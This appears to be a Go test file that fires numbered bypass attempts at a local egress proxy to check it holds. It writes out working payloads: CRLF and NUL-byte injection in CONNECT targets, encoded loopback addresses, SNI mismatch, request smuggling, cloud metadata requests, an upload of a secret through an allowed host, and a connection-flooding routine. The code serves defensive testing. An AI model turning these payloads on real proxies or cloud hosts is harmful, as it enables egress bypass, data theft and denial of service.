package inside

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// proxy is where the way out is, inside and in the control arm.
const proxy = "127.0.0.1:3128"

// proxied are the attempts of 4.4 by way of the proxy.
func proxied() []attempt {
	tunnel := func(line, target string) attempt {
		return try(line, fmt.Sprintf("CONNECT %q", target), func(a *attacker) (string, error) { return a.tunnel(target, hostOf(target)) })
	}
	plain := func(line, name, request string) attempt {
		return try(line, name, func(a *attacker) (string, error) { return a.exchange(proxy, request, nil) })
	}
	get := func(line, url, host string) attempt {
		return plain(line, "GET "+url, "GET "+url+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
	}
	return []attempt{
		tunnel("N-05", "anything.test:443"),
		tunnel("N-05", Allowed+":443"),
		tunnel("N-06", "evil"+Allowed+":443"),
		tunnel("N-06", Allowed+".evil.test:443"),
		tunnel("N-06", Wild+":443"),
		tunnel("N-06", "evil"+Wild+":443"),
		tunnel("N-07", "evil.test\x00."+Allowed+":443"),
		try("N-07", "the same by SOCKS", socks),
		tunnel("N-08", "a%0d%0aHost:evil.test:443"),
		tunnel("N-08", "[::ffff:127.0.0.1%25x."+Allowed+"]:443"),
		try("N-08", "a second header by CR LF in the target", func(a *attacker) (string, error) {
			return a.exchange(proxy, "CONNECT "+Allowed+"\r\nX: y:443 HTTP/1.1\r\n\r\n", hello(Allowed))
		}),
		tunnel("N-09", "2130706433:443"),
		tunnel("N-09", "0x7f.1:443"),
		tunnel("N-09", "127.1:443"),
		tunnel("N-09", "[::ffff:7f00:1]:443"),
		get("N-09", "http://2130706433/", "2130706433"),
		tunnel("N-10", "EVIL.test.:443"),
		tunnel("N-10", "API.Evil.Test:443"),
		tunnel("N-11", Rebound+":443"),
		tunnel("N-11", Private+":443"),
		try("N-12", "CONNECT to a granted host, and ask for another by SNI", func(a *attacker) (string, error) {
			return a.tunnel(Allowed+":443", "evil.test")
		}),
		tunnel("N-13", Allowed+":22"),
		tunnel("N-13", Allowed+":25"),
		tunnel("N-13", Allowed+":6443"),
		try("N-14", "speak SSH in a tunnel", func(a *attacker) (string, error) {
			return a.exchange(proxy, connectTo(Allowed+":443"), []byte("SSH-2.0-attack\r\n"))
		}),
		try("N-15", "a Host header that names another host", func(a *attacker) (string, error) {
			return a.smuggle("GET http://" + Allowed + "/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
		}),
		try("N-15", "two Host headers", func(a *attacker) (string, error) {
			return a.smuggle("GET http://" + Allowed + "/ HTTP/1.1\r\nHost: " + Allowed + "\r\nHost: evil.test\r\n\r\n")
		}),
		try("N-15", "a body with two lengths", func(a *attacker) (string, error) {
			return a.smuggle("POST http://" + Allowed + "/ HTTP/1.1\r\nHost: " + Allowed +
				"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
		}),
		get("N-16", "http://evil.test/", "evil.test"),
		try("N-21", "upload to a granted host", func(a *attacker) (string, error) {
			return a.exchange(proxy, "POST http://"+Allowed+"/upload HTTP/1.1\r\nHost: "+Allowed+"\r\nContent-Length: 10\r\n\r\nthe secret", nil)
		}),
		try("N-23", "give the proxy a name of another group", func(a *attacker) (string, error) {
			return a.exchange(proxy, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nProxy-Authorization: Basic bWFpbjptYWlu\r\n\r\n", hello("evil.test"))
		}),
		tunnel("N-29", "169.254.169.254:443"),
		tunnel("N-29", Metadata+":443"),
		tunnel("N-29", "[fd00:ec2::254]:443"),
		get("N-29", "http://169.254.169.254/latest/meta-data/", "169.254.169.254"),
		without(harm, "R-06", "hold more connections to the proxy than there are", holdMany),
	}
}

// hostOf gives the host of host:port.
func hostOf(target string) string {
	return strings.Trim(target[:strings.LastIndexByte(target, ':')], "[]")
}

func connectTo(target string) string {
	return "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n"
}

// tunnel opens a tunnel and begins TLS in it, with a name.
func (a *attacker) tunnel(target, sni string) (string, error) {
	return a.exchange(proxy, connectTo(target), hello(sni))
}

// exchange sends a request and, once it is answered, more. It succeeds if an
// answer comes from beyond the proxy: every server there says the secret.
func (a *attacker) exchange(addr, request string, more []byte) (string, error) {
	answer, err := talk(addr, request, more)
	if strings.Contains(answer, a.Secret) {
		return "an answer from beyond", nil
	}
	if err == nil || answer != "" {
		line, _, _ := strings.Cut(answer, "\r\n")
		err = refused(fmt.Sprintf("no answer from beyond: %q", line))
	}
	return "", err
}

// smuggle succeeds if a server beyond the proxy was asked for a host that is not
// granted: it repeats what it was sent.
func (a *attacker) smuggle(request string) (string, error) {
	answer, err := talk(proxy, request, nil)
	if strings.Contains(answer, "evil.test") {
		return "it arrived as it was written", nil
	}
	line, _, _ := strings.Cut(answer, "\r\n")
	return "", errors.Join(refused(fmt.Sprintf("it did not arrive as it was written: %q", line)), err)
}

// talk makes one connection and gives all that was answered.
func talk(addr, request string, more []byte) (string, error) {
	conn, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(conn, request); err != nil {
		return "", err
	}
	var answer bytes.Buffer
	if more != nil {
		b := make([]byte, 4096)
		n, err := conn.Read(b)
		answer.Write(b[:n])
		if err != nil || !strings.Contains(answer.String(), " 200 ") {
			return answer.String(), err
		}
		if _, err := conn.Write(more); err != nil {
			return answer.String(), err
		}
	}
	// Servers beyond close after their answer; a proxy may wait for more from us.
	for err == nil && answer.Len() < 64<<10 && !strings.Contains(answer.String(), "\r\n\r\n") {
		b := make([]byte, 4096)
		var n int
		n, err = conn.Read(b)
		answer.Write(b[:n])
	}
	if err == nil { // the body, if it did not come with the head
		b := make([]byte, 4096)
		n, _ := conn.Read(b)
		answer.Write(b[:n])
	}
	return answer.String(), nil
}

// hello gives the bytes with which TLS for a name begins.
func hello(name string) []byte {
	ours, theirs := net.Pipe()
	go func() {
		tls.Client(ours, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake()
		ours.Close()
	}()
	defer theirs.Close()
	b := make([]byte, 16<<10)
	n, _ := theirs.Read(b)
	return b[:n]
}

// socks asks the proxy in another language for a name with a NUL in it.
func socks(a *attacker) (string, error) {
	name := "evil.test\x00." + Allowed
	request := "\x05\x01\x00" + "\x05\x01\x00\x03" + string(rune(len(name))) + name + "\x01\xbb"
	answer, err := talk(proxy, request, nil)
	if strings.Contains(answer, a.Secret) || strings.HasPrefix(answer, "\x05\x00") {
		return "it was understood", nil
	}
	return "", errors.Join(refused(fmt.Sprintf("it was not understood: %.40q", answer)), err)
}

// holdMany opens twice as many connections as there may be, and says nothing on
// them. Those beyond the limit are answered unread.
func holdMany(*attacker) (string, error) {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	for range 2 * MaxConns {
		conn, err := net.DialTimeout("tcp", proxy, patience)
		if err != nil {
			return "", err
		}
		held = append(held, conn)
	}
	turned := make(chan bool, len(held))
	for _, c := range held {
		c.SetReadDeadline(time.Now().Add(patience))
		go func() {
			b := make([]byte, 64)
			n, _ := c.Read(b)
			turned <- strings.Contains(string(b[:n]), " 503 ")
		}()
	}
	for range held {
		if <-turned {
			return "", refused("those beyond the limit were turned away")
		}
	}
	return fmt.Sprint(len(held), " are held"), nil
}
